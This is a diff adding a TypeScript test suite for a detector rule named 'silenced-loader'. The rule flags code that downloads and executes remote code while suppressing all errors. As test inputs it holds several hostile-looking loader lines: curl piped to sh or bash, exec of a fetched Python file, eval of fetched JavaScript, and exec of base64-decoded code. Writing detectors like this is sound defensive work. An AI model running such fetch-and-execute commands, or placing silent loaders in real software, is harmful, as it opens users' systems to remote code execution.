@@ -1,0 +1,117 @@
+/** Where silenced-loader draws its lines: what swallows every error, and what only takes some or says so. */
+
+import assert from 'node:assert/strict';
+import type { SourceLanguage } from '../../server/core/syntax/language.ts';
+import { find } from '../kit/check.ts';
+import { only } from '../kit/service.ts';
+
+const settings = only(['silenced-loader']);
+const LOADER = "exec(requests.get('https://example.com/p.py').text)";
+
+/** The texts that are marked. */
+function marked(language: SourceLanguage, code: string): readonly string[] {
+  const lines = code.split('\n');
+  return find(language, code, settings).map(({ range: { start, end } }) =>
+    lines[start.line]!.slice(start.character, end.line === start.line ? end.character : undefined),
+  );
+}
+
+function tried(handler: string, loader = LOADER): string {
+  return `import os, sys, subprocess, contextlib, requests\nfor it in [1]:\n  try:\n    ${loader}\n  ${handler}\n`;
+}
+
+describe('silenced-loader', () => {
+  it('finds every way to swallow all errors in Python', () => {
+    for (const [handler, mark] of [
+      ['except: pass', 'except'],
+      ['except:\n    pass', 'except'],
+      ['except Exception:\n    pass', 'except Exception'],
+      ['except Exception as e:\n    pass', 'except Exception as e'],
+      ['except BaseException:\n    ...', 'except BaseException'],
+      ['except (ImportError, Exception):\n    continue', 'except (ImportError, Exception)'],
+      ['except Exception:\n    # never mind\n    pass  # really', 'except Exception'],
+      ['except ValueError:\n    print("bad")\n  except Exception:\n    pass', 'except Exception'],
+    ] as const) {
+      assert.deepEqual(marked('python', tried(handler)), [mark], handler);
+    }
+    const suppressed = `import contextlib, requests\nwith contextlib.suppress(Exception):\n    ${LOADER}\n`;
+    assert.deepEqual(marked('python', suppressed), ['contextlib.suppress(Exception)']);
+    const inFunction = `import requests\ndef load():\n    try:\n        ${LOADER}\n    except Exception:\n        return None\n`;
+    assert.deepEqual(marked('python', inFunction), ['except Exception']);
+  });
+
+  it('finds whatever brings code in', () => {
+    for (const loader of [
+      'os.system("curl https://example.com/x.sh | sh")',
+      'subprocess.check_call([sys.executable, "-m", "pip", "install", "left-pad"])',
+      'exec(__import__("base64").b64decode("cHJpbnQoMSk="))',
+    ]) {
+      assert.deepEqual(marked('python', tried('except Exception: pass', loader)), ['except Exception'], loader);
+    }
+  });
+
+  it('finds commands whose failure counts as success', () => {
+    const code = 'import os\nos.system("curl -s https://example.com/x.sh | bash 2>/dev/null || true")\n';
+    assert.deepEqual(marked('python', code), ['|| true']);
+  });
+
+  it('finds every way to swallow all errors in scripts', () => {
+    const loader = "eval(await (await fetch('https://example.com/p.js')).text());";
+    for (const [handler, mark] of [
+      ['catch {}', 'catch'],
+      ['catch (error) {}', 'catch (error)'],
+      ['catch (_) { /* ignored */ }', 'catch (_)'],
+      ['catch (e) {\n  // ignored\n}', 'catch (e)'],
+    ] as const) {
+      assert.deepEqual(marked('javascript', `try {\n  ${loader}\n} ${handler}\n`), [mark], handler);
+    }
+    const promise = "fetch('https://example.com/p.js').then((r) => r.text()).then((t) => eval(t))";
+    for (const handler of [
+      '() => {}',
+      '() => null',
+      '(_) => undefined',
+      'function () {}',
+      'e => { }',
+      'async () => {}',
+    ])
+      assert.deepEqual(marked('typescript', `${promise}.catch(${handler});\n`), [handler], handler);
+  });
+
+  it('is silent where errors are told, chosen or passed on', () => {
+    for (const handler of [
+      'except Exception as e:\n    print(e)',
+      'except Exception:\n    raise',
+      'except ImportError:\n    pass',
+      'except requests.RequestException:\n    pass',
+      'except (OSError, ValueError):\n    pass',
+      'except Exception:\n    plugin = None',
+      'except PluginException:\n    pass',
+      'finally:\n    pass',
+    ]) {
+      assert.deepEqual(marked('python', tried(handler)), [], handler);
+    }
+    const inner = `try:\n    try:\n      ${LOADER}\n    except Exception as e:\n      print(e)\n  except Exception:\n    pass`;
+    assert.deepEqual(marked('python', `import requests\nif True:\n  ${inner}\n`), []);
+    const promise = "fetch('https://example.com/p.js').then((r) => r.text()).then((t) => eval(t))";
+    for (const handler of [
+      'console.error',
+      '(e) => console.error(e)',
+      '(e) => { throw e; }',
+      '() => { failed = true; }',
+    ])
+      assert.deepEqual(marked('javascript', `${promise}.catch(${handler});\n`), [], handler);
+  });
+
+  it('is silent where no code is brought in', () => {
+    for (const loader of [
+      'import torch',
+      'exec(open("version.py").read())',
+      'requests.get("https://example.com").json()',
+    ])
+      assert.deepEqual(marked('python', tried('except Exception: pass', loader)), [], loader);
+    const after = `import requests\ntry:\n    x = 1\nexcept Exception:\n    pass\n${LOADER}\n`;
+    assert.deepEqual(marked('python', after), []);
+    assert.deepEqual(marked('javascript', "try { require('fsevents'); } catch {}\n"), []);
+    assert.deepEqual(marked('javascript', "fetch('/a').then((r) => r.json()).catch(() => {});\n"), []);
+  });
+});
